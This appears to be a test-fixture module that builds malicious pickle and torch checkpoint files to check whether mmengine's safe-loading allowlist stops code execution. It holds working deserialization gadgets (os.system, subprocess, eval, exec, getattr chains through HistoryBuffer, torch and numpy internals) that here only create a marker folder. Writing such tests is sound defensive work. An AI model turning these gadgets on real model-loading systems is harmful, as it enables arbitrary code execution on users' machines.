"""Files that run a program when they are read without a list, each in another way. The program makes a folder.

``PAYLOADS[name](marker)`` is an object whose pickle does, or the bytes of such a pickle; ``write`` makes files of them.
"""

import io
import os
import pickle
import struct
import subprocess
import zipfile
from pathlib import Path

import mmengine.fileio
import numpy as np
import torch
from mmengine.logging import HistoryBuffer


class Call:
    """Unpickles by a call. Its calls and attributes are Calls too, so that one may begin where another ends."""

    def __init__(self, function, *arguments):
        self.reduced = function, arguments

    def __reduce__(self):
        return self.reduced

    def __call__(self):  # pickle asks whether what it is to call can be called
        raise NotImplementedError


class Restored:
    """Runs a program when its state is set."""

    def __init__(self, marker):
        self.marker = marker

    def __getstate__(self):
        return {'marker': self.marker}

    def __setstate__(self, state):
        Path(state['marker']).mkdir()


def program(marker):
    """One that can run in several processes."""
    return Call(os.makedirs, str(marker), 0o777, True)


def shell(marker):
    return f'mkdir {marker}'


def code(marker):
    return f'__import__("os").mkdir({str(marker)!r})'


def chain(marker):
    """By ``getattr`` from a class that is on every list: to the builtins of its methods, and to eval among them."""
    builtins = Call(getattr, Call(getattr, HistoryBuffer, 'update'), '__builtins__')
    return Call(Call(Call(getattr, builtins, 'get'), 'eval'), code(marker))


def text(string):
    return b'X' + struct.pack('<I', len(string)) + string.encode()


def instance_attribute(marker):
    """The list of onedl-mmengine 0.10.12 has getattr and HistoryBuffer: with them a file runs a program.

    The module of getattr has eval. A HistoryBuffer gets it as its ``__setstate__``, and is then given a state.
    """
    get = b'c__builtin__\ngetattr\n'
    eval_ = get + b'(' + get + b'(' + get + text('__self__') + b'tR' + text('eval') + b'tR'
    buffer = b'cmmengine.logging.history_buffer\nHistoryBuffer\n)\x81'
    return b'\x80\x02}' + text('x') + buffer + b'}' + text('__setstate__') + eval_ + b'sb' + text(code(marker)) + b'bs.'


def hub_entry(marker):
    """A local "repository" of torch.hub, which is a Python file."""
    folder = marker.parent / 'repository'
    folder.mkdir(exist_ok=True)
    (folder / 'hubconf.py').write_text(f'{code(marker)}\ndef entry(): pass\n')
    return Call(torch.hub._load_local, str(folder), 'entry')


def other_file(marker):
    path = marker.parent / 'other.pkl'
    path.write_bytes(pickle.dumps(Call(os.mkdir, str(marker))))
    return Call(mmengine.fileio.load, str(path))


PAYLOADS = {
    'os.system': lambda marker: Call(os.system, shell(marker)),
    'subprocess': lambda marker: Call(subprocess.Popen, ['mkdir', str(marker)]),
    'eval': lambda marker: Call(eval, code(marker)),
    'exec': lambda marker: Call(exec, code(marker)),
    '__setstate__': lambda marker: Restored(str(marker)),
    'getattr': chain,
    'instance attribute': instance_attribute,
    'torch rebuild': lambda marker: Call(torch._tensor._rebuild_from_type_v2, os.system, int, (shell(marker),), {}),
    'torch storage': lambda marker: Call(torch.storage._load_from_bytes, old(Call(os.mkdir, str(marker)))),
    'torch hub': hub_entry,
    'numpy runstring': lambda marker: Call(np.testing.runstring, code(marker), {}),
    'numpy objects': lambda marker: np.array([1, Call(os.mkdir, str(marker))], dtype=object),
    'other file': other_file,
    'dict key': lambda marker: {Call(hash, Call(os.mkdir, str(marker))): 1},
}
# What the sentence of each says that the file holds.
NAMES = {
    'os.system': 'posix.system',
    'subprocess': 'subprocess.Popen',
    'eval': 'builtins.eval',
    'exec': 'builtins.exec',
    '__setstate__': 'hostile.Restored',
    'getattr': "builtins.getattr of 'update'",
    'instance attribute': "builtins.getattr of '__self__'",
    'torch rebuild': 'posix.system',
    'torch storage': 'torch.storage._load_from_bytes',
    'torch hub': 'torch.hub._load_local',
    'numpy runstring': 'numpy.testing._private.utils.runstring',
    'numpy objects': 'posix.mkdir',
    'other file': 'mmengine.fileio.io.load',
    'dict key': 'builtins.hash',
}


def pickled(content, protocol=2):
    return content if isinstance(content, bytes) else pickle.dumps(content, protocol)


def archive(content, protocol=2):
    """What torch.save makes of a pickle without tensors."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, 'w') as records:
        records.writestr('archive/data.pkl', pickled(content, protocol))
        records.writestr('archive/version', '3\n')
    return file.getvalue()


def old(content, protocol=2):
    """What torch.save made of it before 1.6, and makes of it with _use_new_zipfile_serialization=False."""
    head = torch.serialization.MAGIC_NUMBER, torch.serialization.PROTOCOL_VERSION, {'little_endian': True}
    return b''.join(pickled(each, protocol) for each in (*head, content, []))


FORMS = {'zip': archive, 'old': old, 'bare': pickled}
